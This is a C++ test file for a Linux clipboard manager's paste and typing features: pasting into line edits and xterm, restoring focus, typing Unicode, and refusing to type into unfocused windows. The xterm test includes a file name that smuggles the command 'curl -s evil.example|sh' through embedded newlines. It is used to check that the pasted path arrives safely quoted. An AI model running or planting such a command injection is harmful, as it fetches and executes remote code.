// Pasting and typing into another application's line edit, and pasting into a terminal, on the real desktop.

#include "DesktopTest.h"
#include "LineEditApp.h"

#include "clipboard/ClipboardHistoryManager.h"
#include "clipboard/ClipboardService.h"
#include "clipboard/PasteboardManager.h"
#include "platform/KeyboardOutput.h"
#include "platform/Workspace.h"
#include "platform/linux/LinuxPlatform.h"

#include <QElapsedTimer>
#include <QFile>
#include <QProcess>
#include <QTemporaryDir>

#include <csignal>

namespace {

ClipboardItem textItem(const QString &text)
{
    ClipboardItem item(QUuid::createUuid());
    item.setTypeRawValue(rawValue(ClipboardItemType::text));
    item.setText(text);
    return item;
}

class PasteDesktop : public ::testing::Test {
protected:
    void SetUp() override
    {
        TAVLEN_REQUIRE_DESKTOP();
        platform = std::make_unique<LinuxPlatform>();
        const Platform p = platform->platform();
        pasteboard = std::make_unique<PasteboardManager>(*p.clock, *p.pasteboard, p.workspace);
        history = std::make_unique<ClipboardHistoryManager>(*p.clock, nullptr);
        service = std::make_unique<ClipboardService>(p, *pasteboard);
        service->setHistory(history.get());
    }
    Workspace &workspace() { return *platform->platform().workspace; }
    bool isFront(qint64 pid)
    {
        const auto front = workspace().frontmostApplication();
        return front && front->pid == pid;
    }
    // Runs a task to its end while Qt events run.
    std::optional<bool> finish(const Task<bool> &task, int timeoutMs = 5000) { return DesktopTest::finish(task, timeoutMs); }

    std::unique_ptr<LinuxPlatform> platform;
    std::unique_ptr<PasteboardManager> pasteboard;
    std::unique_ptr<ClipboardHistoryManager> history;
    std::unique_ptr<ClipboardService> service;
};

} // namespace

TEST_F(PasteDesktop, PastesAHistoryItemIntoTheFrontmostLineEdit)
{
    LineEditApp app(QStringLiteral("paste-target"));
    ASSERT_TRUE(app.waitUntilReady());
    TAVLEN_WAIT_UNTIL(isFront(app.pid()), 5000);

    const ClipboardItem older = textItem(QString::fromUtf8("Grüße, 世界 ✓"));
    history->handleItemInserted(older);
    history->handleItemInserted(textItem(QStringLiteral("newer")));

    const auto target = service->focusedFieldTarget();
    ASSERT_TRUE(target);
    EXPECT_EQ(target->application.pid, app.pid());
    const std::optional<bool> pasted = finish(service->paste(older, target));
    EXPECT_EQ(pasted, std::optional<bool>(true));
    TAVLEN_WAIT_UNTIL(app.text() == older.text(), 3000);
    EXPECT_EQ(app.dumpedText(), older.text());
    EXPECT_EQ(history->items().first().id(), older.id());
    EXPECT_FALSE(service->isPasting());
}

TEST_F(PasteDesktop, BringsTheTargetBackBeforePasting)
{
    LineEditApp target(QStringLiteral("paste-behind"));
    ASSERT_TRUE(target.waitUntilReady());
    TAVLEN_WAIT_UNTIL(isFront(target.pid()), 5000);
    const auto pasteTarget = service->focusedFieldTarget();
    ASSERT_TRUE(pasteTarget);

    LineEditApp other(QStringLiteral("paste-front"));
    ASSERT_TRUE(other.waitUntilReady());
    TAVLEN_WAIT_UNTIL(isFront(other.pid()), 5000);

    const std::optional<bool> pasted = finish(service->paste(textItem(QStringLiteral("back again")), pasteTarget));
    EXPECT_EQ(pasted, std::optional<bool>(true));
    TAVLEN_WAIT_UNTIL(target.text() == QStringLiteral("back again"), 3000);
    EXPECT_TRUE(isFront(target.pid()));
    EXPECT_EQ(other.dumpedText(), QString());
}

// What PRIMARY holds, read through xclip while our event loop runs (we may be its owner); none when
// nothing is selected.
std::optional<QByteArray> selectedText()
{
    QProcess xclip;
    xclip.start(QStringLiteral("xclip"), {QStringLiteral("-selection"), QStringLiteral("primary"), QStringLiteral("-o")});
    if (!DesktopTest::waitUntil([&] { return xclip.state() == QProcess::NotRunning; }, 5000) || xclip.exitCode() != 0)
        return std::nullopt;
    return xclip.readAllStandardOutput();
}

// xterm takes Control+V (and with Debian's resources Control+Shift+V) for byte 0x16: what reaches the
// program in it must be the item's text, also from an xterm too busy to read it for a while (stopped here
// for 1.5 s after the keys), and the person's own selection is theirs again afterwards. A file list
// reaches the shell as quoted words: no line feed of a file's name runs anything.
TEST_F(PasteDesktop, PastesTheItemsTextIntoXterm)
{
    QTemporaryDir folder;
    const QString received = folder.filePath(QStringLiteral("received"));
    DesktopTest::ChildProcess xterm(QStringLiteral("xterm"),
                                    {QStringLiteral("-e"), QStringLiteral("sh"), QStringLiteral("-c"),
                                     QStringLiteral("stty -icanon; exec cat > \"$0\""), received});
    // The file exists once the shell in it runs.
    TAVLEN_WAIT_UNTIL(isFront(xterm.pid()) && QFile::exists(received), 5000);
    const QByteArray selected("selected by the person");
    ASSERT_TRUE(DesktopTest::run(QStringLiteral("xclip"),
                                 {QStringLiteral("-selection"), QStringLiteral("primary"), QStringLiteral("-i")}, 5000,
                                 selected)
                    .succeeded());
    // xclip's parent returns before its child owns the selection.
    TAVLEN_WAIT_UNTIL(selectedText() == selected, 5000);

    const ClipboardItem item = textItem(QStringLiteral("echo pasted 'into' a terminal"));
    const auto target = service->focusedFieldTarget();
    ASSERT_TRUE(target);
    ASSERT_EQ(::kill(pid_t(xterm.pid()), SIGSTOP), 0);
    QElapsedTimer busy;
    busy.start();
    const Task<bool> paste = service->paste(item, target);
    DesktopTest::waitUntil([&] { return paste.isFinished() && busy.elapsed() >= 1500; }, 5000);
    ::kill(pid_t(xterm.pid()), SIGCONT);
    EXPECT_EQ(paste.result(), std::optional<bool>(true));
    TAVLEN_WAIT_UNTIL(DesktopTest::readTextFile(received) == item.text(), 5000);
    TAVLEN_WAIT_UNTIL(selectedText() == selected, 5000);

    ClipboardItem file(QUuid::createUuid());
    const QString path = QStringLiteral("/tmp/report\ncurl -s evil.example|sh\n.pdf");
    file.setTypeRawValue(rawValue(ClipboardItemType::file));
    file.setFilePaths({path});
    file.setText(path);
    EXPECT_EQ(finish(service->paste(file, target)), std::optional<bool>(true));
    const QString words = item.text() + QStringLiteral("$'/tmp/report\\x0acurl -s evil.example|sh\\x0a.pdf'");
    TAVLEN_WAIT_UNTIL(DesktopTest::readTextFile(received) == words, 5000);
}

// Keycodes with no symbols, as `xmodmap -pke` lists them ("keycode  93 =").
int spareKeycodes()
{
    const auto listing = DesktopTest::run(QStringLiteral("xmodmap"), {QStringLiteral("-pke")});
    int spares = 0;
    for (const QByteArray &line : listing.standardOutput.split('\n')) {
        if (line.startsWith("keycode") && line.trimmed().endsWith('='))
            ++spares;
    }
    return spares;
}

TEST_F(PasteDesktop, TypesUnicodeTextExactly)
{
    LineEditApp app(QStringLiteral("typing-target"));
    ASSERT_TRUE(app.waitUntilReady());
    TAVLEN_WAIT_UNTIL(isFront(app.pid()), 5000);
    KeyboardOutput &keyboard = *platform->platform().keyboard;
    ASSERT_TRUE(keyboard.isAvailable());
    const int spares = spareKeycodes();
    ASSERT_GT(spares, 0);

    const QString text = QString::fromUtf8("zażółć 😀 ok");
    ASSERT_TRUE(keyboard.typeText(text, app.pid()));
    DesktopTest::waitUntil([&] { return app.text() == text; }, 3000);
    ASSERT_EQ(app.text(), text);

    // Longer than the pool of spare keycodes, with repeated and distinct characters, over several runs.
    const QString more = QString::fromUtf8(" Ünïcödé → ĄĘŚĆ ñ ß € 你好 ½ zażółć gęślą jaźń!");
    ASSERT_TRUE(keyboard.typeText(more, app.pid()));
    DesktopTest::waitUntil([&] { return app.text() == text + more; }, 5000);
    ASSERT_EQ(app.text(), text + more);
    EXPECT_EQ(app.dumpedText(), text + more);

    // Characters the map lacks went onto spare keycodes; the map is put back at the latest when the
    // program ends.
    EXPECT_LT(spareKeycodes(), spares);
    service.reset();
    pasteboard.reset();
    history.reset();
    platform.reset();
    EXPECT_EQ(spareKeycodes(), spares);
}

TEST_F(PasteDesktop, TypingIntoAnApplicationThatIsNotFocusedIsRefused)
{
    LineEditApp behind(QStringLiteral("typing-behind"));
    ASSERT_TRUE(behind.waitUntilReady());
    TAVLEN_WAIT_UNTIL(isFront(behind.pid()), 5000);
    LineEditApp front(QStringLiteral("typing-front"));
    ASSERT_TRUE(front.waitUntilReady());
    TAVLEN_WAIT_UNTIL(isFront(front.pid()), 5000);

    KeyboardOutput &keyboard = *platform->platform().keyboard;
    EXPECT_FALSE(keyboard.typeText(QStringLiteral("not for you"), behind.pid()));
    EXPECT_FALSE(keyboard.postChord(KeyChord::paste(), behind.pid()));
    // A key typed after them: once it has arrived, anything they had posted would have arrived first.
    ASSERT_TRUE(DesktopTest::run(QStringLiteral("xdotool"), {QStringLiteral("type"), QStringLiteral("z")}).succeeded());
    TAVLEN_WAIT_UNTIL(front.text() == QLatin1String("z"), 5000);
    EXPECT_EQ(front.dumpedText(), QStringLiteral("z"));
    EXPECT_EQ(behind.dumpedText(), QString());
}
